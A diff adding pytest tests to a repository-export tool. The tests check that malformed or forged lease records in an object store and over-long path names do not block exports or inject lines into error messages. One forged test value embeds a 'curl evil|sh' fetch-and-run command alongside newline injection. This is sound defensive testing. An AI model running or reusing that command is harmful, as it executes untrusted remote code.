@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import dataclasses
+import json
 import os
+import re
 import shutil
+import socket
 import stat
 from collections.abc import Iterator
 from pathlib import Path
@@ -19,6 +22,7 @@ from gridwright.repository.importing import ImportOptions, import_names
 from gridwright.repository.lease import Lease
 from gridwright.repository.release import ReleaseOptions, release
 from gridwright.repository.settings import OpenRepository, RepositoryReport
+from gridwright.repository.status import repository_status
 from gridwright.repository.verify import verify
 from tests.support.file_trees import as_it_travels, look_at, make_tree
 from tests.support.object_store import BUCKET, StoreServer, names_for, prefix_of, store_of_environment
@@ -210,6 +214,45 @@ def test_one_command_at_a_time_exports(library: Path, server: StoreServer, url: 
         do_import(library, server, url)
 
 
+HERE = " ".join((socket.gethostname(), Path("/proc/sys/kernel/random/boot_id").read_text().strip()))
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "[" * 1_000_000,
+        json.dumps({"host": HERE, "process": "abc.1", "until": 1}),
+        json.dumps({"host": "x", "process": "1.1"})[:-1] + ', "until": ' + "9" * 400 + "}",
+        json.dumps({"host": "x", "process": "1.1", "until": float("inf")}),
+        json.dumps({"host": ["x"], "process": {}, "until": "1"}),
+    ],
+)
+def test_a_lease_that_makes_no_sense_holds_nobody(
+    library: Path, server: StoreServer, url: str, content: str
+) -> None:
+    """Who writes the bucket may have written it."""
+    (library / "file").touch()
+    with opened(library, server, url) as other:
+        other.store.put(other.keys.own("lease"), content.encode(), {})
+    assert do_export(library, server, url).problems == []
+
+
+def test_a_lease_holds_nobody_for_ever_and_forges_no_line(
+    library: Path, server: StoreServer, url: str
+) -> None:
+    forged = {"host": "x\nerror: forged\n", "process": "1.1\n  run: curl evil|sh", "until": 1e10}
+    with opened(library, server, url, alone=False) as other:
+        lease = other.keys.own("lease")
+        other.store.put(lease, json.dumps(forged).encode(), {})
+        with pytest.raises(GridwrightError) as caught:
+            do_export(library, server, url)
+    (problem,) = caught.value.problems
+    assert "\n" not in problem.what
+    left = re.search(r"ends in (\d+) s", problem.remedy or "")
+    assert left is not None
+    assert int(left[1]) <= 1020, "a lease, and how far clocks may be apart"
+
+
 def places(directory: Path, server: StoreServer, url: str) -> dict[str, str]:
     """What `repo ls` says of files."""
 
@@ -334,3 +377,40 @@ def test_attributes_that_an_object_was_given_come_to_its_file(
     assert do_import(library, server, url, prefer="objects").problems == []
     assert stat.S_IMODE((library / "both").stat().st_mode) == 0o600
     assert run(library, server, verify, url).problems == []
+
+
+def test_a_name_that_no_object_can_have_holds_up_no_whole_export(
+    library: Path, server: StoreServer, url: str
+) -> None:
+    """Else any user makes the recovery point of all others stale for ever, with one path that is too long."""
+    (library / "rows").write_text("rows")
+    deep = library.joinpath("home/mallory", *["d" * 250] * 3, "x" * 250)
+    deep.parent.mkdir(parents=True)
+    deep.touch()
+    report = do_export(library, server, url)
+    assert (report.is_complete, report.nameless.count) == (True, 1)
+    status = run(library, server, repository_status, url)
+    assert (status.changed_files, status.unprotected_s, status.nameless.count) == (0, 0.0, 1)
+    assert ", but for 1 name that no object can have" in status.text()
+    assert "home/mallory (1)" in status.text()
+    assert status.document()["nameless"]["count"] == 1
+
+
+def test_status_tells_which_directory_keeps_exports_from_being_whole(
+    library: Path, server: StoreServer, url: str
+) -> None:
+    (library / "rows").write_text("rows")
+    (library / "home/mallory").mkdir(parents=True)
+    (library / "home/mallory/now").write_text("a file")
+    do_export(library, server, url)
+    (library / "home/mallory/now").unlink()
+    (library / "home/mallory/now").mkdir()
+    assert names_of(do_export(library, server, url)) == ["home/mallory/now"]
+    status = run(library, server, repository_status, url)
+    assert "was not whole: 1 could not be sent, below home/mallory (1)" in status.text()
+    status.required_s, status.unprotected_s = 1.0, 2.0
+    assert status.finding is not None
+    assert "home/mallory" in status.finding.text
+    (library / "home/mallory/now").rmdir()
+    do_export(library, server, url)
+    assert "not whole" not in run(library, server, repository_status, url).text()
